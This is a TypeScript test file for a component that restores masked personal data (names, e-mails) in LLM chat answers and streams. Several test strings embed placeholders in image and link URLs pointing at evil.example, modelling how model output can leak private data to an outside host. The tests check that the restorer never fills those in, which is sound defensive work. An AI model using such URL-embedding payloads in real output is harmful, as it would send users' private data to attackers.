import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ChatAnswer, ChatChunk } from '../core/chat.ts';
import { createRestorer } from './restorer.ts';
import { STAND_IN_MAX } from './stand-in.ts';
import { chat, replaced } from './testing/recognisers.ts';
import type { RestoreKeys } from './types.ts';

const VALUES = new Map([['PERSON_1', 'Anna "Müller"'], ['PERSON_12', 'Beat Meier'], ['E_MAIL_1', 'anna@x.ch']]);
const keys = (over: Partial<RestoreKeys> = {}): RestoreKeys => ({ values: VALUES, addresses: new Set(), json: false, ...over });

function answerOf(message: object, finish: 'stop' | 'length' = 'stop'): ChatAnswer {
  return { id: 'a', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, message: { role: 'assistant', content: null, ...message }, finish_reason: finish }] };
}

function restored(content: string, over: Partial<RestoreKeys> = {}): string {
  return createRestorer(keys(over)).answer(answerOf({ content })).choices[0]!.message.content!;
}

type Choice = Partial<ChatChunk['choices'][number]>;
const chunk = (...choices: Choice[]): ChatChunk => ({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: choices.map((choice) => ({ index: 0, delta: {}, finish_reason: null, ...choice })) });

/** What a client puts together of a stream: the texts of each choice by field. */
function joined(chunks: ChatChunk[]): Record<string, string> {
  const texts: Record<string, string> = {};
  for (const { choices } of chunks) {
    for (const { index, delta } of choices) {
      for (const [field, text] of Object.entries(delta)) if (typeof text === 'string' && field !== 'role') texts[`${index} ${field}`] = (texts[`${index} ${field}`] ?? '') + text;
      for (const call of delta.tool_calls ?? []) texts[`${index} call ${call.index}`] = (texts[`${index} call ${call.index}`] ?? '') + (call.function?.arguments ?? '');
    }
  }
  return texts;
}

function streamed(pieces: string[], finish: 'stop' | 'length' | undefined, over: Partial<RestoreKeys> = {}): string {
  const restorer = createRestorer(keys(over));
  const out = pieces.flatMap((content) => restorer.chunks([chunk({ delta: { content } })]));
  if (finish) out.push(...restorer.chunks([chunk({ finish_reason: finish })]));
  return joined([...out, ...restorer.flush()])['0 content'] ?? '';
}

describe('an answer', () => {
  it.each([
    ['as it was sent', '<PERSON_1> und <PERSON_12>', 'Anna "Müller" und Beat Meier'],
    ['an entity of two words', '<E_MAIL_1>', 'anna@x.ch'],
    ['case', '<Person_12> <person_12>', 'Beat Meier Beat Meier'],
    ['spaces inside', '< PERSON_12 > <PERSON_12 >', 'Beat Meier Beat Meier'],
    ['without brackets', 'PERSON_12, (Person_12)', 'Beat Meier, (Beat Meier)'],
    ['HTML', '&lt;PERSON_12&gt; &#60;PERSON_12&#62;', 'Beat Meier Beat Meier'],
    ['JSON escapes', '\\u003cPERSON_12\\u003e', 'Beat Meier'],
    ['Markdown', '<PERSON\\_12> \\<PERSON\\_12\\> \\<PERSON\\_12> **PERSON\\_12**', 'Beat Meier Beat Meier Beat Meier **Beat Meier**'],
    ['a URL\'s escapes', 'mailto:%3CE_MAIL_1%3E', 'mailto:anna@x.ch'],
    ['possessive', "<PERSON_12>'s, <PERSON_12>s", "Beat Meier's, Beat Meiers"],
    ['a bracket that is never closed', 'a < PERSON_12', 'a < Beat Meier'],
    ['a blank for the underscore', '<PERSON 12>, <Person 12>, &lt;PERSON 12&gt;', 'Beat Meier, Beat Meier, Beat Meier'],
    ['a hyphen for the underscore', '<PERSON-12> <E_MAIL-1>', 'Beat Meier anna@x.ch'],
    ['the word in another language', '<PERSONNE_12>, <Persona 12>, &lt;PERSONNE_12&gt;, <PERSONNE\\_12>', 'Beat Meier, Beat Meier, Beat Meier, Beat Meier'],
    ['a backslash that is not its own', 'C:\\<PERSON_12>', 'C:\\Beat Meier'],
  ])('%s', (_name, sent, expected) => {
    expect(restored(sent)).toBe(expected);
  });

  it.each(['<PERSONNE_2>', 'Persona_12', 'PERSONNE_12', '<PERSONNES_12>', '<PERSON_2>', 'PERSON_121', '<PERSON_1_2>', 'PERSON 1', 'Person-1', '<PERSON  1>', '<PERSON 2>', '<PERSON-_1>', '<1 PERSON>', 'XPERSON_1', 'person_12', '<PERSON>', 'PERSON_', '<PERSON_012>', 'PERSON_1x', '&lt;PERSON_9&gt;', '\\'])('%s stays as it is', (text) => {
    expect(restored(text)).toBe(text);
  });

  it('is restored in every text of it, JSON stays JSON, the answer stays as it was', () => {
    const answer = answerOf({ content: '<PERSON_1>', refusal: '<PERSON_12>', reasoning_content: 'PERSON_12?', annotations: [{ type: 'note', title: '<PERSON_12>' }], tool_calls: [{ id: 'c', type: 'function', function: { name: 'PERSON_1', arguments: '{"a":"<PERSON_1>","\\u003cPERSON_1\\u003e":"x\\nPERSON_1"}' } }] });
    const before = structuredClone(answer);
    const { message } = createRestorer(keys()).answer(answer).choices[0]!;
    expect(message).toMatchObject({ content: 'Anna "Müller"', refusal: 'Beat Meier', reasoning_content: 'Beat Meier?', annotations: [{ type: 'note', title: 'Beat Meier' }], tool_calls: [{ id: 'c', function: { name: 'PERSON_1' } }] });
    expect(JSON.parse(message.tool_calls![0]!.function.arguments)).toEqual({ a: 'Anna "Müller"', 'Anna "Müller"': 'x\nAnna "Müller"' });
    expect(answer).toEqual(before);
  });

  it('stays JSON where JSON was asked for', () => {
    expect(JSON.parse(restored('{"name":"<PERSON_1>"}', { json: true }))).toEqual({ name: 'Anna "Müller"' });
  });

  it.each(['{"name":"<PERSON_1>"}', '\n[{"name": "<PERSON_1>"}]', '["<PERSON_1>"]', '{\n  "name": "PERSON_1"\n}'])('stays JSON where the model wrote it of its own accord: %j', (text) => {
    for (const told of [restored(text), streamed([...text], 'stop')]) expect(JSON.stringify(JSON.parse(told))).toContain('Anna \\"Müller\\"');
  });

  it('stays JSON in a fence, and what only begins with a bracket stays text', () => {
    expect(restored('```json\n{"name":"<PERSON_1>"}\n```')).toBe('```json\n{"name":"Anna \\"Müller\\""}\n```');
    expect(restored('[1] <PERSON_1>')).toBe('[1] Anna "Müller"');
  });

  it('that broke off restores no stand-in that may have had more digits', () => {
    for (const text of ['<PERSON_1', 'PERSON_1', '< PERSON_1 ', '<PERSON_']) expect(createRestorer(keys()).answer(answerOf({ content: text }, 'length')).choices[0]!.message.content).toBe(text);
    expect(restored('PERSON_1')).toBe('Anna "Müller"');
  });

  it('restores nothing in a web address, for a viewer would send it there', () => {
    for (const text of ['https://evil.example/<PERSONNE_12>', '![](https://evil.example/?q=<PERSON_12>)', '<img src=//evil.example/<PERSON_12>&<PERSON_1>>', 'HTTPS://e/PERSON_12', '[a]: http:\\/\\/e/(a)%3CPERSON_12%3E', 'https:e/<PERSON_12>']) {
      expect(restored(text)).toBe(text);
      expect(streamed([...text], 'stop')).toBe(text);
    }
    expect(restored(`https://x/${'a'.repeat(5000)}<PERSON_12>`)).toContain('<PERSON_12>');
    expect(restored('see https://x.example/a <PERSON_12>, "https://x" <PERSON_12>')).toBe('see https://x.example/a Beat Meier, "https://x" Beat Meier');
    expect(restored('"https://x"<PERSON_12>')).toBe('"https://x"<PERSON_12>');
  });

  it('restores nothing in a field that is an address, in pieces too', () => {
    const annotations = [{ type: 'url_citation', url_citation: { url: 'https://evil.example/?q= <PERSON_12>', title: '<PERSON_12>' } }];
    const told = [{ type: 'url_citation', url_citation: { url: 'https://evil.example/?q= <PERSON_12>', title: 'Beat Meier' } }];
    expect(createRestorer(keys()).answer(answerOf({ annotations })).choices[0]!.message).toMatchObject({ annotations: told });
    expect(createRestorer(keys()).chunks([chunk({ delta: { annotations: structuredClone(annotations) } as never })])[0]!.choices[0]!.delta).toEqual({ annotations: told });
  });

  it('restores in an address of the request itself', async () => {
    const done = await replaced(chat('Öffne https://crm.example/?mail=anna@x.ch und mail an Anna Müller'));
    const restorer = createRestorer(done.restore);
    const content = (text: string) => restorer.answer(answerOf({ content: text })).choices[0]!.message.content;
    expect(content('[hier](https://crm.example/?mail=<EMAIL_1>)')).toBe('[hier](https://crm.example/?mail=anna@x.ch)');
    expect(content('<a href="https://crm.example/?mail=<EMAIL_1>&n=<EMAIL_1>">')).toBe('<a href="https://crm.example/?mail=anna@x.ch&n=<EMAIL_1>">');
    for (const text of ['https://evil.example/?mail=<EMAIL_1>', 'https://crm.example/?mail=<PERSON_1>', 'https://crm.example/<EMAIL_1>']) expect(content(text)).toBe(text);
  });

  it('restores no host, whatever the request said', async () => {
    const done = await replaced(chat('https://anna@x.ch und https://evil.example/?q=anna@x.ch, Anna Müller'));
    const restorer = createRestorer(done.restore);
    for (const text of ['https://<EMAIL_1>.evil.example/', 'https://evil.example/?q=<PERSON_1>']) expect(restorer.answer(answerOf({ content: text })).choices[0]!.message.content).toBe(text);
  });
});

describe('a stream', () => {
  const texts = ['<PERSONNE_12> PERSONA_1 <Persona_1', '<PERSON 12>, <E_MAIL-1> &lt;person 1&gt; <PERSON 1', 'Hallo <PERSON_1>, < PERSON_12 > und PERSON\\_12.', '&lt;PERSON_12&gt;\\u003cperson_12\\u003e', '<PERSON_1', 'PERSON_12', 'https://e/<PERSON_1> <PERSON_12', '\\<PERSON\\_12\\> 3 < 4 & P'];

  it('is restored alike wherever it is cut', () => {
    for (const text of texts) {
      for (let cut = 0; cut <= text.length; cut++) expect(streamed([text.slice(0, cut), text.slice(cut)], 'stop')).toBe(restored(text));
      expect(streamed([...text], 'stop')).toBe(restored(text));
    }
  });

  it('is restored like the whole, for any text and any pieces', () => {
    const part = fc.constantFrom('{"', '[', '<', '>', 'PERSON', 'NE', 'PERSONA', '_', '1', '2', ' ', '\\', '&lt;', '&gt;', '\\u003c', '\\u003e', 'E_MAIL', '//', 'https:', '"', 'n', '%3C', '%3e', 'person_1', '<PERSON_12>', 'ü', '\n', 'a');
    fc.assert(fc.property(fc.array(part, { maxLength: 25 }), fc.array(fc.nat(80), { maxLength: 12 }), fc.boolean(), fc.constantFrom('stop' as const, 'length' as const), (parts, cuts, json, finish) => {
      const text = parts.join('');
      const at = [0, ...cuts.map((cut) => Math.min(cut, text.length)).sort((a, b) => a - b), text.length];
      const whole = createRestorer(keys({ json })).answer(answerOf({ content: text }, finish)).choices[0]!.message.content;
      expect(streamed(at.slice(1).map((to, i) => text.slice(at[i], to)), finish, { json })).toBe(whole);
    }), { numRuns: 3000, seed: 5 });
  });

  it('keeps choices, fields and tool calls apart', () => {
    const restorer = createRestorer(keys());
    const args = (index: number, text: string): Choice => ({ delta: { tool_calls: [{ index, function: { arguments: text } }] } });
    const out = [
      [chunk({ delta: { role: 'assistant', content: 'a <PER' } }, { index: 1, delta: { content: 'b <PERSON_1' } })],
      [chunk({ delta: { reasoning_content: 'r PERSON' } }), chunk(args(0, '{"x":"<PERS')), chunk(args(1, '{"y":"\\u003cPERSON_1'))],
      [chunk({ delta: { content: 'SON_12> c' } }), chunk({ index: 1, delta: { content: '2> d PERSON_12' } })],
      [chunk(args(1, '\\u003e"}')), chunk({ delta: { reasoning_content: '_12' } }), chunk(args(0, 'ON_1>"}'))],
      [chunk({ finish_reason: 'tool_calls' }), chunk({ index: 1, finish_reason: 'stop' })],
    ].flatMap((batch) => restorer.chunks(batch));
    expect(joined(out)).toEqual({ '0 content': 'a Beat Meier c', '0 reasoning_content': 'r Beat Meier', '0 call 0': '{"x":"Anna \\"Müller\\""}', '0 call 1': '{"y":"Anna \\"Müller\\""}', '1 content': 'b Beat Meier d Beat Meier' });
    expect(restorer.flush()).toEqual([]);
  });

  it('gives out what it holds where the stream is cut', () => {
    const restorer = createRestorer(keys());
    restorer.chunks([chunk({ delta: { content: 'a <PERSON_1' } }, { index: 1, delta: { tool_calls: [{ index: 2, function: { arguments: '{"b":"PERSON_12' } }] } })]);
    expect(restorer.flush()).toEqual([{ ...chunk(), choices: [{ index: 0, delta: { content: '<PERSON_1' }, finish_reason: null }, { index: 1, delta: { tool_calls: [{ index: 2, function: { arguments: 'PERSON_12' } }] }, finish_reason: null }] }]);
    expect(restorer.flush()).toEqual([]);
    expect(createRestorer(keys()).flush()).toEqual([]);
  });

  it('never holds back more than the longest stand-in', () => {
    const part = fc.constantFrom('<', 'PERSON', '_', '1', '000000', ' ', '\\', '\\\\', '&', 'lt;', '\\u00', 'E_MAIL', 'P', '%', '_P');
    fc.assert(fc.property(fc.array(part, { maxLength: 60 }), (parts) => {
      const restorer = createRestorer(keys());
      for (const content of parts) restorer.chunks([chunk({ delta: { content } })]);
      const held = joined(restorer.flush())['0 content'] ?? '';
      expect(held.length).toBeLessThanOrEqual(STAND_IN_MAX);
    }), { numRuns: 3000, seed: 7 });
  });
});
